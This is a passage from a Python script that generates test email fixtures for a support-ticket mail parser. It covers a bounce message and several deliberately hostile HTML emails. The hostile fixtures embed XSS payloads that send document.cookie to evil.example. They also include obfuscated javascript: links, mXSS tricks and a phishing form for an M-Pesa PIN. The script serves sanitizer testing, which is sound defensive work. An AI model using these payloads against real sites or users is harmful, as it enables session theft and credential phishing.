To: Lucy Atieno <lucy.atieno@yahoo.example>
Subject: [FT-K9M2P] Express delivery refund approved
Date: Wed, 12 Mar 2025 09:19:57 +0300
Message-ID: {bounced}
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

--{bnd}--
""",
    )
    return data, meta(
        frm="mailer-daemon@googlemail.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[bounced],
        references=[bounced],
        is_automated=True,
        is_bounce=True,
        bounced_message_id=bounced,
        text="Your message wasn't delivered to lucy.atieno@yahoo.example",
        notes="Gmail-style DSN whose third part is only text/rfc822-headers "
        "(no body); it also threads to our mail via In-Reply-To/"
        "References, so a naive threader would attach it to the ticket.",
    )


# ===========================================================================
# hostile html
# ===========================================================================


@message("082-hostile-html-kitchen-sink.eml", "hostile_html")
def _hostile():
    subject = "Warranty registration"
    mid = "<20250316150000.XSS.0001@freemail-ke.example>"
    html = """<html><head>
<style>
body { background: url("http://tracker.badhost.example/bg.gif"); }
.warn { width: expression(alert('x')); color: red; }
</style>
<script type="text/javascript">document.location='http://evil.example/steal?c='+document.cookie;</script>
</head>
<body onload="alert('loaded')">
<p>Hello Fuatilia, my fridge warranty number is BRD-7781-2290, please register it.</p>
<img src="x" onerror="fetch('http://evil.example/?'+document.cookie)">
<p><a href="javascript:alert(document.domain)" onclick="steal()">Click to view my receipt</a></p>
<iframe src="http://evil.example/frame.html" width="0" height="0" style="display:none"></iframe>
<p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" alt="stamp"></p>
<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open receipt</a></p>
<img src="http://tracker.badhost.example/open?id=8812" width=1 height=1 alt="">
</body></html>
"""
    data = raw(
        env(
            "w.otieno@freemail-ke.example",
            "mx.freemail-ke.example",
            "203.0.113.44",
            "Sun, 16 Mar 2025 15:00:04 +0300 (EAT)",
            "4Z70DLa3Aqz9d",
        ),
        f"""From: William Otieno <w.otieno@freemail-ke.example>
To: support@fuatilia.test
Subject: {subject}
Date: Sun, 16 Mar 2025 15:00:00 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 7bit

{html}""",
    )
    return data, meta(
        frm="w.otieno@freemail-ke.example",
        subject=subject,
        message_id=mid,
        html_hostile=True,
        text="my fridge warranty number is BRD-7781-2290",
        notes="HTML-only mail with <script>, onload/onerror/onclick, "
        "javascript: and data: links, a hidden <iframe>, <style> with "
        "expression() and a remote url(), data: image and a 1x1 remote "
        "tracking pixel.",
    )


@message("083-hostile-html-obfuscated.eml", "hostile_html")
def _hostile_obfuscated():
    subject = "Order 60114 details"
    mid = "<20250316153000.XSS.0002@freemail-ke.example>"
    bnd = "=_b7f3c2a1e9d8_alt"
    plain = """Hello, I need the delivery date for order 60114 to Nanyuki.
"""
    html = """<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/x.css">
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<style>@import url(http://evil.example/i.css); div { behavior: url(evil.htc); -moz-binding: url(http://evil.example/xbl.xml#x); }</style>
</head>
<body background="javascript:alert(1)">
<ScRiPt>alert(1)</sCrIpT>
<p>I need the delivery date for order 60114 to Nanyuki.</p>
<a href="jav&#x09;ascript:alert(1)">order</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">details</a>
<a href="  JaVaScRiPt:alert(1)">track</a>
<a href="vbscript:msgbox(1)">vb</a>
<svg onload=alert(1)></svg>
<img src=x onerror=alert(1)//>
<div style="background-image: url(javascript:alert(1))">x</div>
<!--<img src="--><img src=x onerror=alert(2)//">
<math><mtext><table><mglyph><style><img src=x onerror=alert(3)></style></mglyph></table></mtext></math>
<form action="http://evil.example/login" method="post"><input name="mpesa_pin" type="password"><button formaction="javascript:alert(4)">Confirm M-Pesa PIN</button></form>
<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">
</body></html>
"""
    data = raw(
        env(
            "w.otieno@freemail-ke.example",
            "mx.freemail-ke.example",
            "203.0.113.44",
            "Sun, 16 Mar 2025 15:30:04 +0300 (EAT)",
            "4Z70FNc5Brz9f",
        ),
        f"""From: William Otieno <w.otieno@freemail-ke.example>
To: support@fuatilia.test
Subject: {subject}
Date: Sun, 16 Mar 2025 15:30:00 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="{bnd}"

--{bnd}
Content-Type: text/plain; charset=utf-8

{plain}
--{bnd}
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

{qp(html)}
--{bnd}--
""",
    )
    return data, meta(
        frm="w.otieno@freemail-ke.example",
        subject=subject,
        message_id=mid,
        html_hostile=True,
        text="I need the delivery date for order 60114 to Nanyuki",
        notes="Filter-evasion html (QP-encoded): mixed-case <ScRiPt>, entity-"
        "and tab-obfuscated javascript:, vbscript:, svg onload, meta "
        "refresh, <base>, @import/behavior/-moz-binding, comment and "
        "mXSS tricks, a phishing <form> asking for the M-Pesa PIN, "
        "object/embed.",
    )


@message("084-html-tracking-pixel.eml", "hostile_html")
def _tracking_pixel():
    subject = "Re: [FT-T6V2W] Spare shelf"
    mid = "<CAB4gXi5Kj9Xh3Cg7Am0Fy6Up1Sd4Vo8rQz2Yp@mail.gmail.com>"
    ours = "<ft.201.s6d8f2g4@fuatilia.test>"
    bnd = "000000000000a9b3d5062f72c1e7"
    plain = """Could you confirm that the spare shelf was dispatched? I paid on Friday.

Beatrice
"""
    html = """<div dir="ltr">Could you confirm that the spare shelf was dispatched? I paid on Friday.<br><br>Beatrice</div><img width="1" height="1" style="display:none;border:0" alt="" src="http://tracker.mailspy.example/trace/mail/7a6c1e9f2b.png?u=beatrice"><img src="https://tracker.mailspy.example/o/7a6c1e9f2b" width=1 height=1>
"""
    data = raw(
        env(
            "beatrice.akoth@gmail.example",
            "mail-ej1-f52.google.example",
            "192.0.2.52",
            "Sun, 16 Mar 2025 16:05:44 +0300 (EAT)",
            "4Z70HQe7Csz9g",
        ),
        f"""MIME-Version: 1.0
References: {ours}
In-Reply-To: {ours}
From: Beatrice Akoth <beatrice.akoth@gmail.example>
Date: Sun, 16 Mar 2025 16:05:40 +0300
Message-ID: {mid}
Subject: {subject}
To: Fuatilia Support <support@fuatilia.test>
Content-Type: multipart/alternative; boundary="{bnd}"

--{bnd}
Content-Type: text/plain; charset="UTF-8"

{plain}
--{bnd}
Content-Type: text/html; charset="UTF-8"

{html}
--{bnd}--
""",
    )
    return data, meta(
        frm="beatrice.akoth@gmail.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[ours],
        references=[ours],
        ticket_ref="FT-T6V2W",
        html_hostile=True,
        text="confirm that the spare shelf was dispatched",
        notes="Ordinary customer reply sent through a mail-tracking browser "
        "extension: two remote 1x1 tracking images (one hidden) are the"
        " only hostile content.",
    )


# ===========================================================================
# main
# ===========================================================================


def build() -> list[tuple[str, bytes, dict]]:
    out = []
    seen = set()
    for filename, category, fn in REGISTRY:
        assert filename not in seen, filename
        seen.add(filename)
        data, m = fn()
        entry = {"file": filename, "category": category}
        entry.update(m)
        out.append((filename, data, entry))
    out.sort(key=lambda t: t[0])
    return out


def main(argv: list[str]) -> int:
    if len(argv) >= 2 and argv[0] == "--oversized":
        size = int(argv[2]) if len(argv) > 2 else 30 * 1024 * 1024
        Path(argv[1]).write_bytes(oversized_message(size))
        return 0
    built = build()
    wanted = {name for name, _, _ in built}
    for stale in HERE.glob("[0-9][0-9][0-9]-*.eml"):
        if stale.name not in wanted:
            stale.unlink()
    for name, data, _ in built:
        (HERE / name).write_bytes(data)
    manifest = [entry for _, _, entry in built]
    (HERE / "manifest.json").write_text(
        json.dumps(manifest, indent=2, ensure_ascii=False) + "\n", encoding="utf-8"
    )
    print(f"wrote {len(built)} messages and manifest.json to {HERE}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
